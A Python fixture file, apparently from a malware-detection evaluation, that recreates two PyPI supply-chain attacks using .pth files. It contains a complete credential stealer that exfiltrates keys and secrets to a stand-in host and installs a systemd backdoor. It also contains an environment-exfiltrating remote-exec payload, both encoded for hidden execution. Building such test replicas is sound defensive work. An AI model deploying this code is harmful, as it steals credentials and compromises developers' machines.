"""Code that any Python start runs: a `.pth` file in an ordinary wheel."""

import base64
from dataclasses import replace

from evals.replicas.ordinary.pypi import as_sdist, gateway, monitor
from evals.replicas.replica import ReleaseSpec, Replica, at

_FAMILY = "pth"
#: What the line does may be told before where it stands.
_REASONS = (
    "pth-runs-code",
    "encoded-code-executed",
    "credentials-read",
    "install-time-download-and-run",
    "sdist-wheel-differ",
)

#: Collects, encrypts with openssl, sends; stays only when the other side answers.
HARVESTER = """\
import glob, json, os, platform, socket, subprocess, tempfile, urllib.request

HOST = "https://models.curlew.invalid/"
PLACES = ["~/.ssh/id_*", "~/.aws/credentials", "~/.config/gcloud/*.json", "~/.azure/*", "~/.kube/config", "~/.docker/config.json",
          "~/.npmrc", "~/.git-credentials", "~/.bash_history", "~/.zsh_history", "~/.pgpass", ".env", "../.env"]


def collect():
    found = {"host": socket.gethostname(), "system": platform.platform(), "environ": dict(os.environ)}
    for place in PLACES:
        for path in glob.glob(os.path.expanduser(place)):
            with open(path, errors="replace") as file:
                found[path] = file.read()
    return found


def send(found):
    folder = tempfile.mkdtemp()
    plain, sealed = os.path.join(folder, "session.key"), os.path.join(folder, "payload.enc")
    with open(plain, "w") as file:
        json.dump(found, file)
    subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:curlew", "-in", plain, "-out", sealed], check=False)
    with open(sealed, "rb") as file:
        request = urllib.request.Request(HOST, file.read(), {"X-Filename": "cur.tar.gz"}, method="POST")
    return urllib.request.urlopen(request, timeout=10).read()


def stay(program):
    folder = os.path.expanduser("~/.config/systemd/user")
    os.makedirs(folder, exist_ok=True)
    script = os.path.expanduser("~/.config/sysmon/sysmon.py")
    os.makedirs(os.path.dirname(script), exist_ok=True)
    with open(script, "wb") as file:
        file.write(program)
    with open(os.path.join(folder, "sysmon.service"), "w") as file:
        file.write("[Unit]\\nDescription=System Telemetry Service\\n[Service]\\nExecStart=/usr/bin/python3 " + script + "\\n")
    subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"], check=False)


try:
    answer = send(collect())
    if answer:
        stay(answer)
except Exception:
    pass
"""
_ENCODED = base64.b64encode(HARVESTER.encode()).decode()

_LINE = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{_ENCODED}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)
_GATEWAY = gateway("curlewllm")
_GATEWAY_BEFORE = ReleaseSpec(
    version="1.82.6",
    published=at("2026-03-22 08:00"),
    files=_GATEWAY,
    sdist=as_sdist(_GATEWAY, "curlewllm"),
    requires=("click>=8",),
)
_GATEWAY_AFTER = replace(
    _GATEWAY_BEFORE,
    version="1.82.8",
    published=at("2026-03-24 10:52"),
    files={**_GATEWAY, "curlewllm_init.pth": _LINE},
    sdist=None,
    payload=("curlewllm_init.pth",),
)

_SHORT = """\
import os; exec(__import__('zlib').decompress(__import__('base64').b64decode('{}')).decode())
"""
_START = """\
import json, os, threading, urllib.request
def report():
    body = json.dumps({k: v for k, v in os.environ.items()}).encode()
    try:
        answer = urllib.request.urlopen('https://sky.curlew.invalid/v1/ping', body, 5).read().decode()
        exec(compile(answer, 'ping', 'exec'), {})
    except Exception:
        pass
threading.Thread(target=report, daemon=True).start()
"""


def _deflated(text: str) -> str:
    import zlib  # noqa: PLC0415 - this one line needs it

    return base64.b64encode(zlib.compress(text.encode())).decode()


_MONITOR = monitor("curlewdata")
_MONITOR_BEFORE = ReleaseSpec(
    version="0.23.2",
    published=at("2026-03-11 08:00"),
    files=_MONITOR,
    sdist=as_sdist(_MONITOR, "curlewdata"),
)
_MONITOR_BAD = {**_MONITOR, "curlewdata.pth": _SHORT.format(_deflated(_START))}
_MONITOR_AFTER = replace(
    _MONITOR_BEFORE,
    version="0.23.3",
    published=at("2026-04-24 22:20"),
    files=_MONITOR_BAD,
    sdist=as_sdist(_MONITOR_BAD, "curlewdata"),
    payload=("curlewdata.pth",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="litellm-pth",
        incident="litellm 1.82.8 (2026-03-24)",
        family=_FAMILY,
        ecosystem="pypi",
        name="curlewllm",
        before=_GATEWAY_BEFORE,
        after=_GATEWAY_AFTER,
        reasons=_REASONS,
    ),
    Replica(
        id="elementary-data",
        incident="elementary-data 0.23.3 (2026-04)",
        family=_FAMILY,
        ecosystem="pypi",
        name="curlewdata",
        before=_MONITOR_BEFORE,
        after=_MONITOR_AFTER,
        reasons=_REASONS,
    ),
)
